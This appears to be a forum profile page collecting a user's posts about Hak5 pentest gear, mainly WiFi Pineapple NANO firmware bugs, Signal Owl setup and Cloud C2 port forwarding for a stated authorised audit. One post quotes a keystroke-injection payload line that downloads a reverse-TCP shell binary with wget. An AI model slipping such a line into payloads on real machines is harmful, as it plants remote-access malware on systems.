Jump to content


Active Members
  • Posts

  • Joined

  • Last visited

Everything posted by DangerAnt

  1. I have also run into this problem. i was able to get around it and completely resolve the problem with the use of Quotes ("). In other words when using QUACK STRING put your command in Quotes foryour first example try putting Q STRING "wget -O reverse_tcp_linux.elf" in your payload instead of Q STRING wget -O reverse_tcp_linux.elf
  2. no worries on that front, i have all the toys. Routers, Pineapples, laptops, and hubs (kind of hard to find now). I just need to time to set it all up and test. Thanks again for your input and assistance.
  3. good thinking, i'll test but it will take me some time to set up. Thanks for the suggestions
  4. Thanks for your reply Chrizree. attached is an nmap scan of my public IP showing that all the ports are in fact open. As far as router logs, unfortunately my router doesn't give great logs on this front. and as far as the web interface for C2 i have no intention of allowing the web interface be accessible from the internet, VPN to my network only. but as i said in my last post, i have had no problems with other port forwarding rules (VPN access is the only other thing i forward rules for).
  5. Hi everyone! I'm trying to set up my C2 server so i can plant some devices for a security audit at my employer's network (with permission naturally) I have my C2 server set up at my home. When i connect my Hak5 devices to my home network they communicate without any problems, but when i restart the C2 server using my domain name and update the device configs so they connect to the server using the domain name (or public IP for that matter) i can't seam to get them to connect. My C2 server is using the INTERNAL IP address of (as you can see in the attached image) and i thought i forwarded all the needed ports, but the devices never make the connection.Furthermore if i CAT the device.config file i can see that the config does use the domain name and appears touse port 8080. These are the two bits of information that are in plain text in the config file. My problem is that I don't really know what ports Hak5 devices use to connect to the C2 server. Based on the above mentioned clear text in the config file and also information i have scrapped together from documentation, forums, and even provided via email by Daren port 8080 seams to be correct but again i can't get the devices to connect. Any assistance would be greatly appreciated. P.S. the two devices I'm working with are a Signal OWL and a WIFI Pineapple NANO. and the provided image is of my Cisco router connected directly to my modem (that is in bridge mode). There are no other known problems getting any devices or port forwarding rules working. P.P.S on my network the only network traffic allowed in should be openVPN and C2 packets. I know its a bit of a mess rite nowdue to opening every port i can think of to get this working.
  6. i don't think this is what i'm seeing. when i go to 2.7.0 i can only use the nano for about 10 min max before the cpu spikes to 100% (according to the dashboard) and pages will no longer load and i can't ssh to it. one point that will add is that i had sslsplit mod loaded, but no other mods. either way the 2.6 firmware works perfect for me (aside from sslsplit not working).
  7. I'll go one step further, i think the hole problem with 2.7.0 IS third party modules. Be the change you want to see in the world and pick up some of the "dead" modules.
  8. 2.6.2 appears to be the "best" firmware for my use. P.S. I agree that 2.7.0 appears to be broken or "hosed" if you prefer, but i'm willing to bet that 2.7.1 will be the best yet once they get a chance to work on it.
  9. ok first things first, i think the reason you are seeing more people complain about the tetra than the nano is cost. the tetra costs twice as much as the nanao so people are expecting flawless performance $100 more than the nano. With that being said, check these forums again you will see a good number of people complaining about that Nano. As far as the commend "In fact on the most recent firmware update for the nano people were saying that it was quite good and all the modules were working." i strongly disagree with this. In my humble opinion the latest firmware makes the nano unusable (itpegs the UPS to 100% and i can't work with it at that point) and i have officially urged Hak 5 to considerpulling that firmware. As far as if its worth it, i think that depends on what your expectations are. If you just want a toy to play with, i wouldn't bother (but i also can't make fruitywifi work so i don't see an alternative). If you are an IT pro and want a deeper understanding of threats in the WIFI space or even better yet a pen tester, i would say its worth every penny. Just don't expect a magic hack box where all wifi devices connect to it.
  10. I noticed the same thing on my Signal Owl, but not yet on my Nano. My solution (again for the owl) was to boot the device up, and then plug in the USB wireless card. This caused the Owl to assign the internal card as wlan1, and when i plugged in the external card it would get wlan1 Now i have done the same with my Nano just out of habit at this point. I let the device boot up, then plug in my external card and it always get wlan2 (3rd wifi card) that i can then use in client mode without affecting PineAP. Hope you found this helpful. P.S. My Signal Owl has been deemed damaged and is being replaced by the fine people at Hak5 so its possible the kind of thing i noticed with the owl is due to this damage and might not apply (but i don't think so).
  11. same experience here, but i had a lot of problems with 2.7.0. If anyone at the Hak5 team reads this, please consider pulling the 2.7.0 firmware
  12. this could be explained by the Nano not working with 5GHz network. If these devices are using and connecting over 2.4GHz it should be working as advertised.
  13. I'm kind of in the same boat as you, just got my first Pineapple yesterday. what i found is that the latest firmware is a bit buggy. I suggest skipping this latest firmware and use the last one back (2.6.7 if irecall correctly). Don't be hard on Hak5 for this, we have been in the throws of Covid-19 since 2.7.0 was released. I have the utmost faith that they will get problems with 2.7.0 firmware sorted out when they can. P.S. One of the problem i found with 2.7.0 was with sslsplit seaming to cause the cpu to max out and the pineapple to lock up. remember Hak5 did not make sslsplit or may other packages for the pineapple.
  14. Thanks Darren, your support as always is appreciated.
  15. it is, and thats exactly what i needed. thanks for the help!
  16. Just got my first Pineapple Nano. would love to have an opinion of it but it turns out that i can't run it at all due to all the download links on the website being broken. Can anyone provide a working link or fix the existing links? When i click the download link on every firmware i get {"error_message":"firmware verison not found"} https://downloads.hak5.org/pineapple/nano
  17. the right side USB port(the one you have a device plugged into) is for the Owl to use. The other USB port is a passthrew, The Owl will not use this port for anything, but the device the Owl is plugged into will.
  18. Dude really? i have fond a few gaps in the online documentation, but have to push back real hard on the support side. I had a simple problem and got a response back in 24 hours from Daren himself. Not only that, he continued to provide support and valid links for as long as i needed him to. Granted it was a response about every 24 hours, but i really can't ask for more since it was the creator directly emailing me. My other thought is that you said "and the every time you encounter a problem it leads you to a solution that leads to another problem." and i say to you, Welcome to programming 😉19. yea i thought "echo y", but it turned out to be a timing problem. i was able to correct the problem by adding some delays between commands using sleep. see my pull request.
  20. I'm running into the same problem, i mean forget about the ssh stuff I'm waiting until my USB WiFi card arrives to ssh while running a payload. But i keep getting "Found phy0 with no interfaces assigned, would you like to assign one to it? [y/n] " and about a half million "invalid input" as if i mashed on the keyboard. clearly the answer to program a way to say "y" in my script but i don't understand how to do that, anyone know?
  21. Hey everyone! I'm excited because i just got my first bit of Hak5 gear, the Signal Owl! I'm very excited for the possibilitys with this little guy, and have managed to side-step what appears to be the more common problems people have with it. after playing with it a bit I'm running into a few problems because i have very basic gaps in my knowledge, and am unable to find the answers i need. 1) can i install python packages on the Signal Owl, such as probemon? 2)Is there a list of commandsfor the "Owl Framework"? I have seen the framework referenced a few times, but never linked to. I assume its all the commands you can give the owl directly such as "LED ATTACK" but i can't find a list of all the commands 3) is there any resources for python programmers? everything seams to reference bash programming, but I'm stronger with python. I'm having tons of fun figuring out how thislittle beauty works,and would appreciate anyone's thoughts and replies.
  • Create New...